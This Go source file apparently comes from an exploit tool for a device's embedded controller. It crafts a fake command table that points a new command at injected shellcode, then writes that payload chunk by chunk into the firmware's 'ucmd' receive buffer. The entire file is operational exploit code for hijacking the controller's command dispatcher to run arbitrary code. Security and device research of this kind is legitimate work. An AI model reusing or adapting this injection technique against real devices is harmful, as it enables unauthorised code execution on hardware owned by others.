package emc

import (
	"encoding/binary"
	"errors"

	"github.com/symbrkrs/emcbridge/internal/consts"
	"github.com/symbrkrs/emcbridge/internal/protocol"
)

// Payload layout inside the ucmd receive buffer. Two command table entries
// of {name, func, mask}, the second left zero to terminate the table, then
// the NUL terminated command name and the 4-byte aligned shellcode.
const (
	// HookCommand is the name of the injected command.
	HookCommand = "A"

	cmdEntrySize  = 12
	cmdEntryCount = 2

	entryNameOffset = 0
	entryFuncOffset = 4
	entryMaskOffset = 8

	payloadNameOffset      = cmdEntrySize * cmdEntryCount
	payloadShellcodeOffset = (payloadNameOffset + len(HookCommand) + 1 + 3) &^ 3

	// cmdMaskAll makes the command available in every mode.
	cmdMaskAll = 0xf
	thumbBit   = 1

	// PayloadChunkLen is the size of one puareq2 chunk.
	PayloadChunkLen = 50

	// PayloadMaxLen is how much of the 0x184 byte ucmd buffer can be
	// controlled without sending its last chunk.
	PayloadMaxLen = 350
)

// ErrPayloadTooLarge is returned when the shellcode does not fit.
var ErrPayloadTooLarge = errors.New("payload exceeds ucmd buffer capacity")

// PaddedLen rounds n up to a whole number of chunks.
func PaddedLen(n int) int {
	return (n + PayloadChunkLen - 1) / PayloadChunkLen * PayloadChunkLen
}

// CraftPayload builds the fake command table and shellcode for fc, padded to
// a whole number of chunks.
func CraftPayload(fc consts.FwConstants) ([]byte, error) {
	n := payloadShellcodeOffset + len(fc.Shellcode)
	if n > PayloadMaxLen {
		return nil, ErrPayloadTooLarge
	}
	base := fc.UcmdBufAddr
	buf := make([]byte, PaddedLen(n))

	entry := buf[:cmdEntrySize]
	binary.LittleEndian.PutUint32(entry[entryNameOffset:], base+payloadNameOffset)
	binary.LittleEndian.PutUint32(entry[entryFuncOffset:], (base+uint32(payloadShellcodeOffset))|thumbBit)
	binary.LittleEndian.PutUint32(entry[entryMaskOffset:], cmdMaskAll)

	copy(buf[payloadNameOffset:], HookCommand)
	copy(buf[payloadShellcodeOffset:], fc.Shellcode)
	return buf, nil
}

// SetPayload delivers payload into the ucmd buffer: one puareq1 to enable
// response processing, then one puareq2 per chunk.
func (s *Session) SetPayload(payload []byte) protocol.Result {
	s.Nak()
	if !s.Puareq1(0) {
		return protocol.NewNg(protocol.StatusSetPayloadPuareq1Failed, "")
	}
	for pos, idx := 0, uint32(0); pos < len(payload); pos, idx = pos+PayloadChunkLen, idx+1 {
		end := min(pos+PayloadChunkLen, len(payload))
		if !s.Puareq2(idx, payload[pos:end]) {
			return protocol.NewNg(protocol.StatusSetPayloadPuareq2Failed, "")
		}
	}
	return protocol.NewSuccess("")
}

func (s *Session) craftAndSetPayload() protocol.Result {
	payload, err := CraftPayload(s.fwConsts)
	if err != nil {
		return protocol.NewNg(protocol.StatusSetPayloadTooLarge, "")
	}
	return s.SetPayload(payload)
}
